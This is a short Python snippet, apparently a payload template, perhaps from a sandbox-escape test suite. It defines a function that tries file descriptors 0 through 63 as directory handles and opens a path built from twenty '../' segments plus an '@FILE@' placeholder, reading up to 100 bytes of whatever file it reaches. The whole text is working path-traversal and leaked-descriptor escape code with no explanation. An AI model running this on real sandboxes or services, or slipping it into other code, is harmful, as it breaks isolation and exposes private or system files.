import os
def f(x):
    for number in range(64):
        try: return os.read(os.open('../' * 20 + '@FILE@'.lstrip('/'), os.O_RDONLY, dir_fd=number), 100).decode()
        except OSError: pass
